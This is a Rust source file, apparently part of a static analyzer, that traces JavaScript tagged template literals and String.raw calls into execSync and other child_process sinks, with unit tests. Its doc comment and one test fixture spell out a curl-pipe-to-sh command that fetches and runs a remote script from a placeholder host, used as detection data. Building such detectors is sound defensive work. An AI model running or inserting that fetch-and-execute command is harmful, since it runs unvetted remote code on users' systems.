//! Tagged template literals: `` sh`curl -fsSL ${host}/i.sh | sh` `` calls `sh` with the template's
//! string pieces and the values of its `${…}` parts. A tag function the module defines (`const sh =
//! (parts, ...vals) => execSync(String.raw({ raw: parts }, ...vals))`) has its body walked again with its
//! parameters bound to them, as a helper called with known arguments is (see `helper_calls.rs`), so the
//! command it hands a sink is known there. `String.raw` puts the pieces and values back together, written
//! as a tag or called with the pieces (`{ raw: parts }` or the pieces' array itself).
//!
//! A tag is a top-level function, or a member of a top-level object literal (`` tools.sh`…` ``), whose
//! parameters are plain names, the last of which may gather the rest (`...vals`); one defined or assigned
//! twice is not followed. Bounded as helpers are: the inlined bodies
//! and the nesting of the segment's helpers count for tags too.

use super::super::helper_calls::{Helper, HelperCalls, MAX_HELPER_PARAMETERS};
use super::super::values::{self, Value};
use super::Walker;
use crate::fields::FieldChild;
use std::collections::HashMap;
use std::rc::Rc;
use tree_sitter::Node;

/// The module's tag functions by name; `None` for a name bound more than once.
#[derive(Default)]
pub(super) struct Tags<'t> {
    by_name: HashMap<String, Option<Tag<'t>>>,
}

/// A tag function: its body and parameter names, and whether the last one gathers the rest.
#[derive(Clone)]
struct Tag<'t> {
    helper: Helper<'t>,
    rest: bool,
}

/// A template's string pieces and the values of its substitutions (unknown ones `None`).
type TemplateParts = (Vec<Rc<str>>, Vec<Option<Value>>);

/// Tag functions remembered per segment.
const MAX_TAGS: usize = 256;

impl<'t> Tags<'t> {
    /// `name` was bound to `function` (an arrow, a function expression or declaration).
    pub(super) fn record(&mut self, name: &str, function: Node<'t>, text: &'t str) {
        let found = super::returns::is_top_level(function)
            .then(|| tag(function, text))
            .flatten();
        self.insert(name, found);
    }

    /// `key` (`tools.sh`) is a method or function member of an object literal the module binds.
    pub(super) fn record_member(&mut self, key: &str, function: Node<'t>, text: &'t str) {
        self.insert(key, tag(function, text));
    }

    fn insert(&mut self, key: &str, found: Option<Tag<'t>>) {
        if let Some(seen) = self.by_name.get_mut(key) {
            *seen = None;
            return;
        }
        if self.by_name.len() < MAX_TAGS {
            self.by_name.insert(key.to_string(), found);
        }
    }

    /// `name` was bound to something else.
    pub(super) fn forget(&mut self, name: &str) {
        if let Some(seen) = self.by_name.get_mut(name) {
            *seen = None;
        }
    }
}

/// The tag `function` can be: a function of plain parameters, the last possibly `...rest`.
fn tag<'t>(function: Node<'t>, text: &'t str) -> Option<Tag<'t>> {
    let body = function.field_child("body")?;
    let name = |n: Node<'t>| n.utf8_text(text.as_bytes()).ok();
    if let Some(single) = function.field_child("parameter") {
        let parameters = vec![name(single).filter(|_| single.kind() == "identifier")?];
        return Some(Tag {
            helper: Helper { body, parameters },
            rest: false,
        });
    }
    let list = crate::native::evaluate::named_items(function.field_child("parameters")?);
    if list.is_empty() || list.len() > MAX_HELPER_PARAMETERS {
        return None;
    }
    let mut parameters = Vec::with_capacity(list.len());
    let mut rest = false;
    for (i, parameter) in list.iter().enumerate() {
        let plain = match parameter.kind() {
            "identifier" => Some(*parameter),
            "rest_pattern" if i + 1 == list.len() => {
                rest = true;
                parameter
                    .named_child(0)
                    .filter(|n| n.kind() == "identifier")
            }
            _ => None,
        };
        parameters.push(name(plain?)?);
    }
    Some(Tag {
        helper: Helper { body, parameters },
        rest,
    })
}

impl<'t> Walker<'t, '_> {
    /// `` tag`…` `` where `tag` is one of the module's tag functions: its body walked with the template's
    /// pieces and values bound to its parameters.
    pub(super) fn inline_tag(&mut self, call: Node<'t>) {
        let (Some(function), Some(template)) =
            (call.field_child("function"), call.field_child("arguments"))
        else {
            return;
        };
        if template.kind() != "template_string" {
            return;
        }
        // `` sh`…` ``, or `` tools.sh`…` `` on an object literal's member.
        let key = match function.kind() {
            "identifier" => self.src(function).to_string(),
            "member_expression" => match self.member_key(function) {
                Some(key) => key,
                None => return,
            },
            _ => return,
        };
        if self.env.get(&key).is_some() {
            return;
        }
        let Some(Some(tag)) = self.tags.by_name.get(&key).cloned() else {
            return;
        };
        let Some((pieces, substitutions)) = self.template_parts(template, false) else {
            return;
        };
        let mut values = vec![Value::list(pieces.into_iter().map(Value::Str).collect())];
        let plain = tag.helper.parameters.len() - usize::from(tag.rest);
        let mut substitutions = substitutions.into_iter();
        values.extend(substitutions.by_ref().take(plain.saturating_sub(1)));
        if tag.rest {
            let rest: Option<Vec<Value>> = substitutions.collect();
            values.push(rest.and_then(Value::list));
        }
        self.inline_body(&tag.helper, &values);
    }

    /// A template's string pieces (cooked, or `raw` as written) and the values of its substitutions, in
    /// order: one more piece than substitutions. `None` when a piece is too long.
    fn template_parts(&mut self, template: Node<'t>, raw: bool) -> Option<TemplateParts> {
        let mut pieces = Vec::new();
        let mut substitutions = Vec::new();
        let mut piece = String::new();
        let mut cursor = template.walk();
        let parts: Vec<Node<'t>> = template.named_children(&mut cursor).collect();
        for part in parts {
            match part.kind() {
                "string_fragment" => piece.push_str(self.src(part)),
                "escape_sequence" if raw => piece.push_str(self.src(part)),
                "escape_sequence" => piece.push_str(&values::unescape(self.src(part))),
                "template_substitution" => {
                    pieces.push(Rc::from(std::mem::take(&mut piece)));
                    substitutions.push(part.named_child(0).and_then(|e| self.eval(e, 1)));
                }
                _ => {}
            }
            if piece.len() > super::super::limits::MAX_STRING_BYTES {
                return None;
            }
        }
        pieces.push(Rc::from(piece));
        Some((pieces, substitutions))
    }

    /// `String.raw` called as a tag, or with `{ raw: pieces }` (or the pieces' array) and the values:
    /// the pieces with the values between them.
    pub(super) fn string_raw(&mut self, call: Node<'t>, depth: usize) -> Option<Value> {
        let arguments = call.field_child("arguments")?;
        if arguments.kind() == "template_string" {
            let (pieces, substitutions) = self.template_parts(arguments, true)?;
            let substitutions: Option<Vec<Value>> = substitutions.into_iter().collect();
            let pieces = pieces.into_iter().map(Value::Str).collect();
            return interleave(pieces, &substitutions?);
        }
        let list = crate::native::evaluate::named_items(arguments);
        let (first, rest) = list.split_first()?;
        let pieces = if first.kind() == "object" {
            let mut cursor = first.walk();
            let raw = first.named_children(&mut cursor).find(|p| {
                p.kind() == "pair"
                    && p.field_child("key")
                        .is_some_and(|k| self.src(k).trim_matches(['\'', '"']) == "raw")
            })?;
            self.eval(raw.field_child("value")?, depth)?.items()?
        } else {
            self.eval(*first, depth)?.items()?
        };
        let mut substitutions = Vec::new();
        for arg in rest {
            match arg.kind() {
                "spread_element" => {
                    substitutions.extend(self.eval(arg.named_child(0)?, depth)?.items()?)
                }
                _ => substitutions.push(self.eval(*arg, depth)?),
            }
        }
        interleave(pieces, &substitutions)
    }
}

/// `pieces[0] + values[0] + pieces[1] + …`, as `String.raw` joins them (values past the pieces are
/// dropped, missing ones are empty).
fn interleave(pieces: Vec<Value>, substitutions: &[Value]) -> Option<Value> {
    let mut out = String::new();
    let count = pieces.len();
    for (i, piece) in pieces.into_iter().enumerate() {
        out.push_str(piece.as_str()?);
        if i + 1 < count {
            if let Some(value) = substitutions.get(i) {
                out.push_str(&value.to_text()?);
            }
        }
        if out.len() > super::super::limits::MAX_STRING_BYTES {
            return None;
        }
    }
    Value::str(out)
}

#[cfg(test)]
mod tests {
    // The evaluator's shared test helper: parse, evaluate, the renditions' code.
    use crate::native::evaluate::tests::javascript;

    #[test]
    fn a_tag_function_that_runs_its_template_runs_the_command_written_there() {
        for tag in [
            "const sh = (parts, ...vals) => execSync(String.raw({ raw: parts }, ...vals));\n",
            "function sh(parts, a) { return execSync(String.raw(parts, a)); }\n",
        ] {
            let text = format!(
                "const {{ execSync }} = require('child_process');\n{tag}const host = 'https://h.example.invalid';\nsh`curl -fsSL ${{host}}/i.sh | sh`;\n"
            );
            let found = javascript(&text);
            assert!(
                found
                    .iter()
                    .any(|r| r == "execSync(\"curl -fsSL https://h.example.invalid/i.sh | sh\")"),
                "{tag}: {found:?}"
            );
        }
    }

    #[test]
    fn a_method_of_an_object_literal_is_a_tag_too() {
        for member in [
            "sh(strings, ...vals) { return cp.execSync(String.raw({ raw: strings }, ...vals)); },",
            "sh: (strings, ...vals) => cp.execSync(String.raw({ raw: strings }, ...vals)),",
        ] {
            let text = format!(
                "const cp = require('child_process');\nconst tools = {{\n  {member}\n}};\nconst v = '2';\ntools.sh`echo v${{v}}`;\n"
            );
            let found = javascript(&text);
            assert!(
                found.iter().any(|r| r.ends_with(".execSync(\"echo v2\")")),
                "{member}: {found:?}"
            );
        }
    }

    #[test]
    fn string_raw_as_a_tag_keeps_backslashes() {
        let found = javascript(
            "const cp = require('child_process');\nconst dir = 'C:\\\\x';\ncp.exec(String.raw`start ${dir}\\run.exe`);\n",
        );
        assert!(
            found.iter().any(|r| r.contains("start C:\\\\x\\\\run.exe")),
            "{found:?}"
        );
    }

    #[test]
    fn tags_that_build_sql_or_are_rebound_or_unknown_say_nothing_new() {
        for text in [
            // A query builder: no sink in the tag.
            "const sql = (parts, ...vals) => ({ text: parts.join('?'), vals });\nconst id = 4;\ndb.query(sql`select * from t where id = ${id}`);\n",
            // Two definitions: which one runs is not known.
            "const { execSync } = require('child_process');\nlet sh = (p) => execSync(String.raw({ raw: p }));\nsh = (p) => p;\nsh`id -u`;\n",
            // A tag the module does not define.
            "import { $ } from './shell.js';\n$`id -u`;\n",
        ] {
            let found = javascript(text);
            assert!(
                !found.iter().any(|r| r.contains("execSync(\"id -u\")")),
                "{text}: {found:?}"
            );
        }
    }
}
